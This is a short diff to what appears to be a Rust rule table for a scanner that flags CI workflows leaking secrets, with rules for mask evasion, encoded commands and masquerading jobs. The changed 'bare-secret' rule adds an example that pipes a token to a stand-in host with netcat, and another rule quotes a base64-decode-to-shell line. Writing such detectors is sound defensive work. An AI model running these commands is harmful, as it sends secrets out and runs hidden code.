@@ -97,7 +97,7 @@ signals! {
     MaskEvasion = "mask-evasion", Hiding, "The secret is changed in a way whose only use is to get past the runner's mask: reversed, spaced out, split, encoded twice.";
     DecodedCommand = "decoded-command", Hiding, "The command that sends stood encoded in the file and is decoded to run: `echo Y3Vyb… | base64 -d | sh`.";
     AssembledCommand = "assembled-command", Hiding, "The command or the address is put together from pieces that say nothing alone.";
-    BareSecret = "bare-secret", Hiding, "The message is the secret and nothing else, it goes to an address without a name, and the job does nothing else: no login looks like that.";
+    BareSecret = "bare-secret", Hiding, "The message is the secret and nothing else, and it goes to an address without a name in a job that does nothing else, or over a bare connection: no login looks like that. `echo \"$TOKEN\" | nc collector.example 443`";
     SinglePurpose = "single-purpose", Weak, "The job does nothing else: no checkout of use, no build, no test, only sending.";
     Masquerade = "masquerade", Weak, "The workflow's name or path says security, check or cache, and it sends secrets.";
     SingleFileCommit = "single-file-commit", Weak, "The commit that brought it changed nothing else.";
